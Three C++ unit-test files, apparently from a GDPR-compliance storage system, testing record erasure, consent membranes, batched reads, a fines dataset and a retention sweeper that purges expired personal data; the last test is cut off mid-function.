  auto id = PutUser(1, "old_secret_value", 1990);
  ASSERT_TRUE(id.ok());
  db::Row new_row{db::Value(std::string("new")), db::Value(std::string("pw")),
                  db::Value(std::int64_t{1991})};
  ASSERT_TRUE(fs_->UpdateRow(kDed, *id, new_row).ok());
  EXPECT_EQ(*fs_->Get(kDed, *id)->row[0].AsString(), "new");
  // The superseded version is gone from the data region; after a journal
  // scrub it is gone everywhere.
  ASSERT_TRUE(store_->ScrubJournal().ok());
  EXPECT_EQ(blockdev::CountBlocksContaining(*device_,
                                            ToBytes("old_secret_value")),
            0u);
}

TEST_F(DbfsTest, QueriesByTypeAndSubject) {
  ASSERT_TRUE(PutUser(1, "a", 1990).ok());
  ASSERT_TRUE(PutUser(1, "b", 1991).ok());
  ASSERT_TRUE(PutUser(2, "c", 1992).ok());
  auto by_type = fs_->RecordsOfType(kDed, "user");
  ASSERT_TRUE(by_type.ok());
  EXPECT_EQ(by_type->size(), 3u);
  auto by_subject = fs_->RecordsOfSubject(kDed, 1);
  ASSERT_TRUE(by_subject.ok());
  EXPECT_EQ(by_subject->size(), 2u);
  EXPECT_TRUE(fs_->RecordsOfSubject(kDed, 99)->empty());
}

TEST_F(DbfsTest, HardDeleteRemovesEveryTrace) {
  auto id = PutUser(1, "vanishing_plaintext", 1990);
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(fs_->HardDelete(kDed, *id).ok());
  EXPECT_FALSE(fs_->Get(kDed, *id).ok());
  EXPECT_EQ(fs_->record_count(), 0u);
  EXPECT_EQ(blockdev::CountBlocksContaining(*device_,
                                            ToBytes("vanishing_plaintext")),
            0u);
  // The type index may hold a stale link, but queries filter it.
  EXPECT_TRUE(fs_->RecordsOfType(kDed, "user")->empty());
}

TEST_F(DbfsTest, EnvelopeErasure) {
  auto id = PutUser(1, "sealed_plaintext", 1990);
  ASSERT_TRUE(id.ok());
  const Bytes envelope = ToBytes("ENVELOPE_CIPHERTEXT_BLOB");
  ASSERT_TRUE(fs_->ReplaceWithEnvelope(kDed, *id, envelope).ok());

  auto record = fs_->Get(kDed, *id);
  ASSERT_TRUE(record.ok());
  EXPECT_TRUE(record->erased);
  EXPECT_TRUE(record->row.empty());
  // All consents were revoked.
  for (const auto& [purpose, consent] : record->membrane.consents) {
    EXPECT_EQ(consent.kind, membrane::ConsentKind::kNone) << purpose;
  }
  // Envelope retrievable; plaintext fully destroyed.
  EXPECT_EQ(*fs_->GetEnvelope(kDed, *id), envelope);
  EXPECT_EQ(blockdev::CountBlocksContaining(*device_,
                                            ToBytes("sealed_plaintext")),
            0u);
  // Double erasure and update-after-erasure fail cleanly.
  EXPECT_EQ(fs_->ReplaceWithEnvelope(kDed, *id, envelope).code(),
            StatusCode::kErased);
  db::Row row{db::Value(std::string("x")), db::Value(std::string("y")),
              db::Value(std::int64_t{1})};
  EXPECT_EQ(fs_->UpdateRow(kDed, *id, row).code(), StatusCode::kErased);
  // Envelope of a live record is unavailable.
  auto id2 = PutUser(2, "live", 1990);
  ASSERT_TRUE(id2.ok());
  EXPECT_EQ(fs_->GetEnvelope(kDed, *id2).status().code(),
            StatusCode::kFailedPrecondition);
}

TEST_F(DbfsTest, CopyGroups) {
  auto a = PutUser(1, "alice", 1990);
  ASSERT_TRUE(a.ok());
  auto m = fs_->GetMembrane(kDed, *a);
  ASSERT_TRUE(m.ok());
  EXPECT_NE(m->copy_group, 0u);
  // A second Put with the same membrane (same copy group) models copy.
  auto record = fs_->Get(kDed, *a);
  auto b = fs_->Put(kDed, 1, "user", record->row, record->membrane);
  ASSERT_TRUE(b.ok());
  auto group = fs_->CopyGroupMembers(kDed, m->copy_group);
  ASSERT_TRUE(group.ok());
  EXPECT_EQ(group->size(), 2u);
  // Records with fresh membranes land in distinct groups.
  auto c = PutUser(2, "carol", 1991);
  ASSERT_TRUE(c.ok());
  EXPECT_EQ(fs_->CopyGroupMembers(kDed, m->copy_group)->size(), 2u);
}

TEST_F(DbfsTest, UpdateMembraneChecksIdentity) {
  auto id = PutUser(1, "alice", 1990);
  ASSERT_TRUE(id.ok());
  auto m = fs_->GetMembrane(kDed, *id);
  ASSERT_TRUE(m.ok());
  m->RevokeConsent("purpose1");
  ASSERT_TRUE(fs_->UpdateMembrane(kDed, *id, *m).ok());
  EXPECT_EQ(fs_->GetMembrane(kDed, *id)->consents.at("purpose1").kind,
            membrane::ConsentKind::kNone);
  // Mismatched identity is rejected.
  m->subject_id = 999;
  EXPECT_EQ(fs_->UpdateMembrane(kDed, *id, *m).code(),
            StatusCode::kFailedPrecondition);
}

TEST_F(DbfsTest, ExportSubjectIsComplete) {
  ASSERT_TRUE(PutUser(1, "a", 1990).ok());
  ASSERT_TRUE(PutUser(1, "b", 1991).ok());
  ASSERT_TRUE(PutUser(2, "c", 1992).ok());
  auto exported = fs_->ExportSubject(kDed, 1);
  ASSERT_TRUE(exported.ok());
  EXPECT_EQ(exported->subject_id, 1u);
  EXPECT_EQ(exported->records.size(), 2u);
  EXPECT_EQ(exported->records[0].type_name, "user");
}

TEST_F(DbfsTest, MountRebuildsIndexes) {
  auto a = PutUser(1, "alice", 1990);
  auto b = PutUser(2, "bob", 1985);
  ASSERT_TRUE(a.ok() && b.ok());
  ASSERT_TRUE(fs_->HardDelete(kDed, *b).ok());
  ASSERT_TRUE(store_->Sync().ok());
  fs_.reset();
  store_.reset();

  auto store = inodefs::InodeStore::Mount(device_.get(), &clock_);
  ASSERT_TRUE(store.ok());
  store_ = std::move(store).value();
  auto fs = Dbfs::Mount(store_.get(), sentinel_.get(), &clock_);
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  fs_ = std::move(fs).value();

  EXPECT_EQ(fs_->record_count(), 1u);
  EXPECT_EQ(fs_->TypeNames(), std::vector<std::string>{"user"});
  auto record = fs_->Get(kDed, *a);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(*record->row[0].AsString(), "alice");
  // New Puts continue after the highest historical record id.
  auto c = PutUser(3, "carol", 1970);
  ASSERT_TRUE(c.ok());
  EXPECT_GT(*c, *b);
}

TEST_F(DbfsTest, MountOnUnformattedStoreFails) {
  blockdev::MemBlockDevice device(512, 2048);
  inodefs::InodeStore::Options options;
  options.inode_count = 64;
  options.journal_blocks = 32;
  auto store = inodefs::InodeStore::Format(&device, options, &clock_);
  ASSERT_TRUE(store.ok());
  EXPECT_EQ(Dbfs::Mount(store->get(), sentinel_.get(), &clock_)
                .status()
                .code(),
            StatusCode::kFailedPrecondition);
}

TEST_F(DbfsTest, EveryDenialIsAudited) {
  const std::uint64_t denied_before = audit_.denied_count();
  (void)fs_->Get(kApp, 1);
  (void)fs_->CreateType(sentinel::Domain::kOutside, user_decl_);
  EXPECT_EQ(audit_.denied_count(), denied_before + 2);
}

// ---- batched reads (GetMany / GetMembraneMany) ------------------------------

TEST_F(DbfsTest, GetManyMatchesPerIdGetExactly) {
  std::vector<RecordId> live;
  for (int i = 0; i < 8; ++i) {
    auto id = PutUser(static_cast<SubjectId>(1 + i % 3),
                      "user" + std::to_string(i), 1980 + i);
    ASSERT_TRUE(id.ok());
    live.push_back(*id);
  }
  // Mix in the interesting shapes: a missing id, an enveloped (erased)
  // record, duplicates, and out-of-order slots.
  const std::string sealed = "SEALED";
  ASSERT_TRUE(fs_->ReplaceWithEnvelope(
                     kDed, live[2],
                     ByteSpan(reinterpret_cast<const std::uint8_t*>(
                                  sealed.data()),
                              sealed.size()))
                  .ok());
  const std::vector<RecordId> ids = {live[5], 9999, live[2], live[0],
                                     live[5], 0,    live[7]};

  const auto batched = fs_->GetMany(kDed, ids);
  ASSERT_EQ(batched.size(), ids.size());
  for (std::size_t i = 0; i < ids.size(); ++i) {
    const auto one = fs_->Get(kDed, ids[i]);
    ASSERT_EQ(batched[i].ok(), one.ok()) << "slot " << i;
    if (!one.ok()) {
      EXPECT_EQ(batched[i].status().code(), one.status().code());
      continue;
    }
    EXPECT_EQ(batched[i]->erased, one->erased) << "slot " << i;
    EXPECT_EQ(batched[i]->membrane.subject_id, one->membrane.subject_id);
    EXPECT_EQ(batched[i]->membrane.version, one->membrane.version);
    ASSERT_EQ(batched[i]->row.size(), one->row.size());
    for (std::size_t f = 0; f < one->row.size(); ++f) {
      EXPECT_TRUE(batched[i]->row[f] == one->row[f]) << "slot " << i;
    }
  }
}

TEST_F(DbfsTest, GetManySeesAcknowledgedMutationsImmediately) {
  auto id = PutUser(1, "alice", 1990);
  ASSERT_TRUE(id.ok());
  auto m = fs_->GetMembrane(kDed, *id);
  ASSERT_TRUE(m.ok());
  m->RevokeConsent("purpose1");
  ASSERT_TRUE(fs_->UpdateMembrane(kDed, *id, *m).ok());

  const auto membranes = fs_->GetMembraneMany(kDed, {*id});
  ASSERT_EQ(membranes.size(), 1u);
  ASSERT_TRUE(membranes[0].ok()) << membranes[0].status().ToString();
  const auto consent = membranes[0]->consents.find("purpose1");
  ASSERT_NE(consent, membranes[0]->consents.end());
  EXPECT_EQ(consent->second.kind, membrane::ConsentKind::kNone);
  const auto fresh = fs_->GetMembrane(kDed, *id);
  ASSERT_TRUE(fresh.ok());
  EXPECT_EQ(membranes[0]->version, fresh->version);
}

TEST_F(DbfsTest, GetManyIsGatedPerRecord) {
  auto id = PutUser(1, "alice", 1990);
  ASSERT_TRUE(id.ok());
  // Applications are blocked from raw Get — the batch must deny each
  // slot exactly like the per-id path and audit every denial.
  const std::uint64_t denied_before = audit_.denied_count();
  const auto batched = fs_->GetMany(kApp, {*id, *id});
  ASSERT_EQ(batched.size(), 2u);
  EXPECT_EQ(batched[0].status().code(), StatusCode::kAccessBlocked);
  EXPECT_EQ(batched[1].status().code(), StatusCode::kAccessBlocked);
  EXPECT_EQ(audit_.denied_count(), denied_before + 2);
}

TEST_F(DbfsTest, GetMembraneManyMatchesPerIdGetMembrane) {
  std::vector<RecordId> ids;
  for (int i = 0; i < 4; ++i) {
    auto id = PutUser(static_cast<SubjectId>(1 + i), "u" + std::to_string(i),
                      1990 + i);
    ASSERT_TRUE(id.ok());
    ids.push_back(*id);
  }
  ids.push_back(4242);  // missing
  const auto batched = fs_->GetMembraneMany(kDed, ids);
  ASSERT_EQ(batched.size(), ids.size());
  for (std::size_t i = 0; i < ids.size(); ++i) {
    const auto one = fs_->GetMembrane(kDed, ids[i]);
    ASSERT_EQ(batched[i].ok(), one.ok()) << "slot " << i;
    if (!one.ok()) {
      EXPECT_EQ(batched[i].status().code(), one.status().code());
      continue;
    }
    EXPECT_EQ(batched[i]->subject_id, one->subject_id);
    EXPECT_EQ(batched[i]->version, one->version);
    EXPECT_EQ(batched[i]->Serialize(), one->Serialize());
  }
}

}  // namespace
}  // namespace rgpdos::dbfs
