// Workload-generator and penalty-dataset tests.
#include <gtest/gtest.h>

#include "dsl/parser.hpp"
#include "penalties/penalties.hpp"
#include "workload/workload.hpp"

namespace rgpdos {
namespace {

dsl::TypeDecl UserDecl() {
  auto decl = dsl::ParseType(R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  consent { purpose1: all };
  origin: subject;
  sensitivity: high;
}
)");
  EXPECT_TRUE(decl.ok());
  return *decl;
}

TEST(WorkloadTest, PopulationConformsToSchema) {
  const dsl::TypeDecl decl = UserDecl();
  Rng rng(5);
  const auto population = workload::GeneratePopulation(decl, 100, rng);
  ASSERT_EQ(population.size(), 100u);
  const db::Schema schema = decl.ToSchema();
  for (const auto& record : population) {
    EXPECT_TRUE(schema.ValidateRow(record.row).ok());
  }
  // Subject ids are 1-based and sequential.
  EXPECT_EQ(population.front().subject_id, 1u);
  EXPECT_EQ(population.back().subject_id, 100u);
}

TEST(WorkloadTest, GenerationIsDeterministicPerSeed) {
  const dsl::TypeDecl decl = UserDecl();
  Rng a(5), b(5), c(6);
  const auto p1 = workload::GeneratePopulation(decl, 10, a);
  const auto p2 = workload::GeneratePopulation(decl, 10, b);
  const auto p3 = workload::GeneratePopulation(decl, 10, c);
  EXPECT_EQ(p1[3].row, p2[3].row);
  EXPECT_NE(p1[3].row, p3[3].row);
}

TEST(WorkloadTest, MarkedPopulationEmbedsSubjectMarkers) {
  const dsl::TypeDecl decl = UserDecl();
  Rng rng(5);
  const auto population = workload::GenerateMarkedPopulation(decl, 5, rng);
  for (const auto& record : population) {
    const std::string marker = workload::SubjectMarker(record.subject_id);
    const std::string name = *record.row[0].AsString();
    EXPECT_NE(name.find(marker), std::string::npos);
  }
  // Markers are unique per subject.
  EXPECT_NE(workload::SubjectMarker(1), workload::SubjectMarker(2));
}

TEST(WorkloadTest, OpMixSamplesRoughlyMatchWeights) {
  const workload::OpMix mix = workload::OpMix::Controller();
  Rng rng(9);
  std::map<workload::GdprOp, int> counts;
  const int n = 100'000;
  for (int i = 0; i < n; ++i) ++counts[mix.Sample(rng)];
  // 45% reads +- 1%.
  EXPECT_NEAR(double(counts[workload::GdprOp::kReadRecord]) / n, 0.45, 0.01);
  EXPECT_NEAR(double(counts[workload::GdprOp::kCreateRecord]) / n, 0.25,
              0.01);
  // Rights ops are rare but present.
  EXPECT_GT(counts[workload::GdprOp::kRightOfAccess], 0);
}

TEST(WorkloadTest, RoleMixesHaveDistinctCharacter) {
  Rng rng(1);
  const workload::OpMix customer = workload::OpMix::Customer();
  const workload::OpMix regulator = workload::OpMix::Regulator();
  for (int i = 0; i < 100; ++i) {
    const workload::GdprOp op = regulator.Sample(rng);
    EXPECT_TRUE(op == workload::GdprOp::kAuditSubject ||
                op == workload::GdprOp::kAuditPurpose);
  }
  // Customer mix never emits controller CRUD.
  for (int i = 0; i < 100; ++i) {
    const workload::GdprOp op = customer.Sample(rng);
    EXPECT_NE(op, workload::GdprOp::kCreateRecord);
    EXPECT_NE(op, workload::GdprOp::kReadRecord);
  }
}

TEST(WorkloadTest, OpNamesAreStable) {
  EXPECT_EQ(workload::GdprOpName(workload::GdprOp::kRightToErasure),
            "erasure");
  EXPECT_EQ(workload::GdprOpName(workload::GdprOp::kAuditPurpose),
            "audit_purpose");
}

// ---- Penalties (Fig 1) --------------------------------------------------------------

TEST(PenaltiesTest, DatasetIsPlausible) {
  const auto& fines = penalties::Dataset();
  EXPECT_GE(fines.size(), 35u);
  for (const auto& fine : fines) {
    EXPECT_GE(fine.year, 2018);
    EXPECT_LE(fine.year, 2022);
    EXPECT_GT(fine.amount_eur, 0);
    EXPECT_FALSE(fine.sector.empty());
    EXPECT_FALSE(fine.entity.empty());
  }
}

TEST(PenaltiesTest, TotalsByYearMatchFig1Shape) {
  const auto totals = penalties::TotalsByYear();
  // Fig 1 left: totals grow every year up to the 2021 peak of ~1.2B.
  ASSERT_TRUE(totals.count(2018) && totals.count(2019) &&
              totals.count(2020) && totals.count(2021));
  EXPECT_LT(totals.at(2018), totals.at(2019));
  EXPECT_LT(totals.at(2019), totals.at(2020));
  EXPECT_LT(totals.at(2020), totals.at(2021));
  EXPECT_GT(totals.at(2021), 1.0e9);
  EXPECT_LT(totals.at(2021), 1.5e9);
}

TEST(PenaltiesTest, TopSectors) {
  const auto by_amount = penalties::TopSectorsByAmount(5);
  ASSERT_EQ(by_amount.size(), 5u);
  // Internet platforms dominate by amount (Amazon, WhatsApp, Google...).
  EXPECT_EQ(by_amount[0].first, "internet");
  // Descending order.
  for (std::size_t i = 1; i < by_amount.size(); ++i) {
    EXPECT_GE(by_amount[i - 1].second, by_amount[i].second);
  }
  const auto by_count = penalties::TopSectorsByCount(3);
  ASSERT_EQ(by_count.size(), 3u);
  for (std::size_t i = 1; i < by_count.size(); ++i) {
    EXPECT_GE(by_count[i - 1].second, by_count[i].second);
  }
}

TEST(PenaltiesTest, RequestingMoreSectorsThanExistIsClamped) {
  const auto all = penalties::TopSectorsByAmount(1000);
  EXPECT_LT(all.size(), 1000u);
  EXPECT_GT(all.size(), 5u);
}

}  // namespace
}  // namespace rgpdos
