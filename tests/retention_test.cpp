// Retention sweeper suite: the storage-limitation daemon (Art. 5(1)(e))
// proactively erases expired PD end-to-end — raw medium, block cache,
// decoded-record cache — while unexpired records, restricted records
// (Art. 18) and foreground traffic stay untouched. The daemon tests run
// in the TSan CI job; the crash-at-every-write sweep lives in
// recovery_test.cpp (RetentionRecovery.*).
#include <gtest/gtest.h>

#include <chrono>
#include <cstdlib>
#include <limits>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "core/retention.hpp"
#include "core/rgpdos.hpp"

namespace rgpdos {
namespace {

constexpr sentinel::Domain kDed = sentinel::Domain::kDed;

constexpr std::string_view kTypes = R"(
type note {
  fields { author: string, text: string };
  consent { reading: all };
  origin: subject;
  sensitivity: medium;
}
)";

/// Whole-device substring scan, used both on the raw medium and through
/// the block cache (what the cache SERVES after invalidation).
Result<bool> DeviceContains(blockdev::BlockDevice& device,
                            const std::string& marker) {
  Bytes image;
  image.reserve(device.block_count() * device.block_size());
  Bytes block;
  for (blockdev::BlockIndex b = 0; b < device.block_count(); ++b) {
    RGPD_RETURN_IF_ERROR(device.ReadBlock(b, block));
    image.insert(image.end(), block.begin(), block.end());
  }
  const std::string haystack(reinterpret_cast<const char*>(image.data()),
                             image.size());
  return haystack.find(marker) != std::string::npos;
}

/// OR of DeviceContains over every PD shard's raw medium — under
/// RGPDOS_SHARDS the spine is split, and erasure must hold on whichever
/// shard the subject routes to.
Result<bool> PdMediumContains(core::RgpdOs& os, const std::string& marker) {
  for (std::size_t s = 0; s < os.shard_count(); ++s) {
    RGPD_ASSIGN_OR_RETURN(bool hit, DeviceContains(os.dbfs_device(s), marker));
    if (hit) return true;
  }
  return false;
}

/// Same scan through each shard's block cache: what the caches SERVE
/// after a sweep, not what the medium holds.
Result<bool> PdCacheServes(core::RgpdOs& os, const std::string& marker) {
  for (std::size_t s = 0; s < os.shard_count(); ++s) {
    if (os.dbfs_cache(s) == nullptr) continue;
    RGPD_ASSIGN_OR_RETURN(bool hit,
                          DeviceContains(*os.dbfs_cache(s), marker));
    if (hit) return true;
  }
  return false;
}

class RetentionTest : public ::testing::Test {
 protected:
  static std::unique_ptr<core::RgpdOs> BootWorld(
      const core::BootConfig& base = {}) {
    unsetenv("RGPDOS_RETENTION");
    core::BootConfig config = base;
    config.seed = 7;
    config.use_sim_clock = true;
    auto os = core::RgpdOs::Boot(config);
    EXPECT_TRUE(os.ok()) << os.status().ToString();
    std::unique_ptr<core::RgpdOs> world = std::move(os).value();
    EXPECT_TRUE(world->DeclareTypes(kTypes).ok());
    return world;
  }

  /// Put a note whose payload carries `marker`; ttl 0 = never expires.
  static dbfs::RecordId PutNote(core::RgpdOs& os, dbfs::SubjectId subject,
                                const std::string& marker, TimeMicros ttl) {
    auto type = os.dbfs().GetType(kDed, "note");
    EXPECT_TRUE(type.ok());
    membrane::Membrane m = (*type)->DefaultMembrane(subject, os.clock().Now());
    m.ttl = ttl;
    const std::string text = "pd payload " + marker;
    auto id = os.dbfs().Put(kDed, subject, "note",
                            db::Row{db::Value(std::string("author")),
                                    db::Value(text)},
                            std::move(m));
    EXPECT_TRUE(id.ok()) << id.status().ToString();
    return *id;
  }
};

// The headline property: after one sweep, an expired record's payload is
// gone from the raw block device AND from what every cache level serves,
// while an unexpired neighbour survives byte-exact.
TEST_F(RetentionTest, SweepErasesExpiredFromMediumAndAllCacheLevels) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();
  const dbfs::RecordId doomed =
      PutNote(*os, 1, "PD_TTL_MARKER_DOOMED", /*ttl=*/500);
  const dbfs::RecordId keeper =
      PutNote(*os, 1, "PD_TTL_MARKER_KEEPER", /*ttl=*/0);
  const dbfs::RecordId late =
      PutNote(*os, 2, "PD_TTL_MARKER_LATE", /*ttl=*/1'000'000);

  // Warm every cache level with the soon-to-expire record.
  ASSERT_TRUE(os->dbfs().Get(kDed, doomed).ok());
  ASSERT_TRUE(os->dbfs().Get(kDed, keeper).ok());
  ASSERT_GT(os->dbfs().cached_record_count(), 0u);
  ASSERT_TRUE(*PdMediumContains(*os, "PD_TTL_MARKER_DOOMED"));

  os->sim_clock()->Advance(1000);  // past doomed's TTL, not late's
  auto report = os->retention().SweepOnce();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_GE(report->scanned, 3u);
  EXPECT_EQ(report->expired, 1u);
  EXPECT_EQ(report->erased, 1u);
  EXPECT_EQ(report->deferred, 0u);
  EXPECT_TRUE(report->wrapped);

  // Level 0, the medium: no plaintext byte of the expired payload
  // anywhere (data region or journal — HardDelete scrubs both).
  EXPECT_FALSE(*PdMediumContains(*os, "PD_TTL_MARKER_DOOMED"));
  // Level 1, the block cache: nothing it serves contains the payload.
  ASSERT_NE(os->dbfs_cache(), nullptr);
  EXPECT_FALSE(*PdCacheServes(*os, "PD_TTL_MARKER_DOOMED"));
  // Level 2, the record cache: the decoded record is unreachable.
  EXPECT_EQ(os->dbfs().Get(kDed, doomed).status().code(),
            StatusCode::kNotFound);

  // The unexpired neighbours are untouched, on disk and through the API.
  auto kept = os->dbfs().Get(kDed, keeper);
  ASSERT_TRUE(kept.ok());
  EXPECT_NE(kept->row[1].AsString()->find("PD_TTL_MARKER_KEEPER"),
            std::string::npos);
  EXPECT_TRUE(os->dbfs().Get(kDed, late).ok());
  EXPECT_TRUE(*PdMediumContains(*os, "PD_TTL_MARKER_KEEPER"));

  // Each expiry left an audit record and a processing-log entry.
  const auto audited = os->audit().Query([](const sentinel::AuditEntry& e) {
    return e.rule == "retention-ttl";
  });
  ASSERT_EQ(audited.size(), 1u);
  EXPECT_TRUE(audited[0].allowed);
  EXPECT_NE(audited[0].request.detail.find(
                "record=" + std::to_string(doomed)),
            std::string::npos);
  bool logged = false;
  for (const auto& entry : os->processing_log().entries()) {
    logged |= entry.processing == "sentinel.retention" &&
              entry.outcome == core::LogOutcome::kErased &&
              entry.record_id == doomed;
  }
  EXPECT_TRUE(logged);
}

// Art. 18 outranks expiry: a restricted record stays put (deferred) and
// is reaped only once the restriction lifts.
TEST_F(RetentionTest, RestrictedExpiredRecordIsDeferredUntilLifted) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();
  const dbfs::RecordId id =
      PutNote(*os, 1, "PD_TTL_MARKER_HELD", /*ttl=*/500);
  {
    auto m = os->dbfs().GetMembrane(kDed, id);
    ASSERT_TRUE(m.ok());
    m->Restrict("legal claim pending");
    ASSERT_TRUE(os->dbfs().UpdateMembrane(kDed, id, *m).ok());
  }
  os->sim_clock()->Advance(1000);

  auto report = os->retention().SweepOnce();
  ASSERT_TRUE(report.ok());
  EXPECT_EQ(report->expired, 1u);
  EXPECT_EQ(report->deferred, 1u);
  EXPECT_EQ(report->erased, 0u);
  EXPECT_TRUE(os->dbfs().Get(kDed, id).ok());  // bytes preserved
  EXPECT_TRUE(*PdMediumContains(*os, "PD_TTL_MARKER_HELD"));
  const auto held = os->audit().Query([](const sentinel::AuditEntry& e) {
    return e.rule == "retention-hold-restricted";
  });
  ASSERT_EQ(held.size(), 1u);
  EXPECT_FALSE(held[0].allowed);

  {
    auto m = os->dbfs().GetMembrane(kDed, id);
    ASSERT_TRUE(m.ok());
    m->LiftRestriction();
    ASSERT_TRUE(os->dbfs().UpdateMembrane(kDed, id, *m).ok());
  }
  auto second = os->retention().SweepOnce();
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(second->erased, 1u);
  EXPECT_EQ(os->dbfs().Get(kDed, id).status().code(), StatusCode::kNotFound);
  EXPECT_FALSE(*PdMediumContains(*os, "PD_TTL_MARKER_HELD"));
}

// Lazy and proactive enforcement agree: the moment the TTL elapses the
// membrane rejects Evaluate with kExpired (read path), and the sweeper
// then removes the bytes (storage path).
TEST_F(RetentionTest, ExpiredIsRejectedByEvaluateThenReapedBySweeper) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();
  const dbfs::RecordId id =
      PutNote(*os, 1, "PD_TTL_MARKER_LAZY", /*ttl=*/500);
  os->sim_clock()->Advance(500);  // exact boundary: already expired

  auto m = os->dbfs().GetMembrane(kDed, id);
  ASSERT_TRUE(m.ok());
  EXPECT_EQ(m->Evaluate("reading", os->clock().Now()).status().code(),
            StatusCode::kExpired);
  EXPECT_TRUE(os->dbfs().Get(kDed, id).ok());  // lazily expired, still stored

  ASSERT_TRUE(os->retention().SweepOnce().ok());
  EXPECT_EQ(os->dbfs().Get(kDed, id).status().code(), StatusCode::kNotFound);
  EXPECT_FALSE(*PdMediumContains(*os, "PD_TTL_MARKER_LAZY"));
}

// Crypto mode: expiry seals the payload to the supervisory authority
// instead of scrubbing — the record survives as an erased envelope, but
// no plaintext remains on the medium.
TEST_F(RetentionTest, CryptoEraseModeSealsExpiredPayload) {
  core::BootConfig config;
  config.retention_crypto_erase = true;
  std::unique_ptr<core::RgpdOs> os = BootWorld(config);
  const dbfs::RecordId id =
      PutNote(*os, 1, "PD_TTL_MARKER_SEALME", /*ttl=*/500);
  os->sim_clock()->Advance(1000);

  auto report = os->retention().SweepOnce();
  ASSERT_TRUE(report.ok()) << report.status().ToString();
  EXPECT_EQ(report->erased, 1u);
  auto record = os->dbfs().Get(kDed, id);
  ASSERT_TRUE(record.ok());
  EXPECT_TRUE(record->erased);
  EXPECT_FALSE(*PdMediumContains(*os, "PD_TTL_MARKER_SEALME"));
}

// Token bucket: a sweep visits at most pages_per_sweep subjects and the
// cursor resumes where it left off, so repeated sweeps cover everyone.
TEST_F(RetentionTest, TokenBucketPagesSweepsAndCursorResumes) {
  core::BootConfig config;
  config.retention_pages_per_sweep = 2;
  config.retention_burst_pages = 2;  // no carry-over: exactly 2 per sweep
  std::unique_ptr<core::RgpdOs> os = BootWorld(config);
  constexpr int kSubjects = 7;
  for (int s = 1; s <= kSubjects; ++s) {
    PutNote(*os, s, "PD_TTL_MARKER_S" + std::to_string(s), /*ttl=*/500);
  }
  os->sim_clock()->Advance(1000);

  int sweeps = 0;
  while (os->retention().total_erased() < kSubjects) {
    auto report = os->retention().SweepOnce();
    ASSERT_TRUE(report.ok());
    EXPECT_LE(report->pages, 2u);
    ASSERT_LT(++sweeps, 32) << "sweeper failed to make progress";
  }
  // 2 pages a sweep over 7 subjects: at least 4 sweeps to cover a cycle.
  EXPECT_GE(sweeps, 4);
  for (int s = 1; s <= kSubjects; ++s) {
    EXPECT_FALSE(*PdMediumContains(*os, "PD_TTL_MARKER_S" + std::to_string(s)));
  }
}

// Backpressure: while foreground invokes are in flight the sweep yields
// without scanning; once the foreground goes quiet it proceeds.
TEST_F(RetentionTest, SweepYieldsToForegroundTraffic) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();
  PutNote(*os, 1, "PD_TTL_MARKER_BUSY", /*ttl=*/500);
  os->sim_clock()->Advance(1000);

  bool busy = true;
  core::RetentionSweeper::Deps deps;
  deps.dbfs = &os->dbfs();
  deps.clock = &os->clock();
  deps.foreground_busy = [&busy] { return busy; };
  core::RetentionSweeper sweeper(std::move(deps), core::RetentionOptions{});

  auto yielded = sweeper.SweepOnce();
  ASSERT_TRUE(yielded.ok());
  EXPECT_TRUE(yielded->yielded);
  EXPECT_EQ(yielded->scanned, 0u);
  EXPECT_EQ(yielded->erased, 0u);

  busy = false;
  auto report = sweeper.SweepOnce();
  ASSERT_TRUE(report.ok());
  EXPECT_FALSE(report->yielded);
  EXPECT_EQ(report->erased, 1u);
}

// The booted daemon reaps in the background, and the in-flight counter
// it keys off is visible on the PS.
TEST_F(RetentionTest, BootedDaemonReapsInBackground) {
  core::BootConfig config;
  config.retention_enabled = true;
  config.retention_interval_ms = 1;
  std::unique_ptr<core::RgpdOs> os = BootWorld(config);
  ASSERT_TRUE(os->retention().running());
  EXPECT_EQ(os->ps().invokes_in_flight(), 0u);

  PutNote(*os, 1, "PD_TTL_MARKER_DAEMON", /*ttl=*/500);
  os->sim_clock()->Advance(1000);
  // The daemon ticks on wall time (1ms) but judges expiry on the sim
  // clock we just advanced; poll until it has reaped.
  for (int i = 0; i < 2000 && os->retention().total_erased() == 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  EXPECT_GE(os->retention().total_erased(), 1u);
  EXPECT_FALSE(*PdMediumContains(*os, "PD_TTL_MARKER_DAEMON"));
  os->retention().Stop();
  EXPECT_FALSE(os->retention().running());
}

// RGPDOS_RETENTION env knob: 0 keeps the daemon off even when the config
// enables it; N > 1 enables it with N pages per sweep.
TEST_F(RetentionTest, EnvKnobOverridesBootConfig) {
  {
    setenv("RGPDOS_RETENTION", "0", 1);
    core::BootConfig config;
    config.seed = 7;
    config.retention_enabled = true;
    auto os = core::RgpdOs::Boot(config);
    ASSERT_TRUE(os.ok());
    EXPECT_FALSE((*os)->retention().running());
  }
  {
    setenv("RGPDOS_RETENTION", "16", 1);
    core::BootConfig config;
    config.seed = 7;
    auto os = core::RgpdOs::Boot(config);
    ASSERT_TRUE(os.ok());
    EXPECT_TRUE((*os)->retention().running());
    EXPECT_EQ((*os)->retention().options().pages_per_sweep, 16u);
  }
  unsetenv("RGPDOS_RETENTION");
}

// ttl == 0 means "no retention bound": the sweeper never touches it no
// matter how far time advances.
TEST_F(RetentionTest, ZeroTtlIsNeverReaped) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();
  const dbfs::RecordId id =
      PutNote(*os, 1, "PD_TTL_MARKER_FOREVER", /*ttl=*/0);
  os->sim_clock()->Advance(std::numeric_limits<TimeMicros>::max() / 2);
  auto report = os->retention().SweepOnce();
  ASSERT_TRUE(report.ok());
  EXPECT_EQ(report->expired, 0u);
  EXPECT_EQ(report->erased, 0u);
  EXPECT_TRUE(os->dbfs().Get(kDed, id).ok());
}

// SetTtl mid-life moves the deadline in both directions, and the sweeper
// honours the current value.
TEST_F(RetentionTest, SetTtlMidLifeMovesTheSweepDeadline) {
  std::unique_ptr<core::RgpdOs> os = BootWorld();
  const dbfs::RecordId id =
